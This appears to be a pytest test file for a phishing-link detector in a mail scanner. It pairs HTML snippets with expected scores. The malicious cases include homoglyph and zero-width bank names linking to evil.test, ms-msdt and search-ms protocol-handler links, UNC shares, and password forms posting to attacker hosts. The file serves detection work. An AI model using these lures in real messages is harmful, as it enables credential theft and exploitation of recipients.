"""Where a page's links and forms really lead: what takes a person elsewhere, and what is ordinary.

All pages are ours, 2026-11. Hosts under `.example` and `.test` are reserved (RFC 2606).
"""

from __future__ import annotations

import pytest
from detector_rig import NONE, PLAIN, WEAK

from guardian.detectors.base import Evidence
from guardian.detectors.links import LinksDetector
from guardian.message import Format, Message
from guardian.reading.read import read

DETECTOR = LinksDetector()
MAIL = b"From: a@b.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
LOGIN = "<input name=u><input type=password name=p><button>Sign in</button></form>"

PAGES = [
    ("shows a bank in Cyrillic", "<a href='https://evil.test/'>www.bаnk.com</a>", PLAIN),
    ("shows a bank with nothing between", "<a href='https://evil.test/'>www.ba&#8203;nk&shy;.com</a>", PLAIN),
    ("shows a bank in wide letters", "<a href='https://evil.test/'>ｗｗｗ．ｂａｎｋ．ｃｏｍ</a>", PLAIN),
    ("shows a bank with another dot", "<a href='https://evil.test/'>www&#12290;bank&#12290;com</a>", PLAIN),
    ("shows a bank to the pointer", "<a href='https://evil.test/' title='https://bank.example/in'>Log in</a>", PLAIN),
    ("shows a bank as a picture's text", "<a href='https://evil.test/'><img alt='www.bank.com' src=x></a>", PLAIN),
    ("shows a bank, the rest is hidden", "<a href='https://evil.test/'>www.bank.com<i hidden> no</i></a>", PLAIN),
    ("two names in one address", "<a href='https://bank.com@evil.test/'>Log in</a>", PLAIN),
    ("goes where the base says", "<base href='https://evil.test/'><a href='in.php'>www.bank.com</a>", PLAIN),
    ("a page in the address", "<a href='data:text/html;base64,PGgxPkhp'>Open the invoice</a>", PLAIN),
    ("a drawing in the address", "<a href='data:image/svg+xml,<svg/>'>Open</a>", PLAIN),
    ("code", "<a href='java&#10;script:fetch(1)'>Open</a>", WEAK),
    ("a script of Windows", "<a href='vbscript:x'>Open</a>", PLAIN),
    ("a program", "<a href='ms-msdt:/id'>Open</a>", PLAIN),
    ("a search of Windows", "<a href='search-ms:query=x&crumb=location:evil.test'>Open</a>", PLAIN),
    ("another machine's file", "<a href='file://evil.test/share/a.doc'>Open</a>", PLAIN),
    ("another machine's share", "<a href='\\\\evil.test\\share'>Open</a>", PLAIN),
    ("a form for a password", f"<form action='https://evil.test/x'>{LOGIN}", PLAIN),
    ("a form for a password, by mail", f"<form action='mailto:a@evil.test'>{LOGIN}", PLAIN),
    ("a form for a password, by the base", f"<base href='https://evil.test/'><form action=x.php>{LOGIN}", PLAIN),
    ("a form to an imitation", "<form action='https://paypal-login.test/'><input></form>", PLAIN),
    ("goes on by itself", "<meta http-equiv=refresh content='0;url=https://evil.test/'><p>Wait", WEAK),
    # --- ordinary ---
    ("a picture in the address", "<a href='data:image/png;base64,AAAA'>the chart</a>", NONE),
    ("a link that is a button", "<a href='javascript:void(0)'>Menu</a><a href='javascript:;'>x</a>", NONE),
    ("a file of the writer's", "<a href='file:///C:/Users/ana/plan.docx'>plan</a>", NONE),
    ("a place on the page", "<a href='#top'>www.shop.com</a>", NONE),
    ("a search", "<form action='https://shop.example/find'><input name=q><button>Find</button></form>", NONE),
    (
        "a survey elsewhere",
        "<form action='https://forms.survey.example/r'><input type=radio><button>Send</button>",
        NONE,
    ),
    ("a form that goes nowhere", f"<form>{LOGIN}", NONE),
    ("its own address to the pointer", "<a href='https://shop.example/a' title='https://shop.example/'>Shop</a>", NONE),
    ("telephone and mail", "<a href='tel:+351'>+351</a><a href='mailto:a@b.example'>a@b.example</a>", NONE),
    ("loads anew", "<meta http-equiv=refresh content=300><p>Departures", NONE),
]


@pytest.mark.parametrize(("page", "score"), [pytest.param(page, score, id=name) for name, page, score in PAGES])
def test_what_a_page_sends_its_reader_to_is_judged_by_where_it_goes(page: str, score: float) -> None:
    message = Message(MAIL + page.encode(), format=Format.MAIL)
    found = DETECTOR.detect(Evidence(message, read(message)))
    assert max((finding.score for finding in found), default=NONE) == score


def test_a_login_page_that_was_saved_is_weaker_than_a_mail_that_asks_for_a_password() -> None:
    page = f"<!doctype html><a href='https://git.example/'>Home</a><form action='https://git.example/session'>{LOGIN}"
    message = Message(page.encode(), format=Format.HTML)
    assert [finding.score for finding in DETECTOR.detect(Evidence(message, read(message)))] == [WEAK]
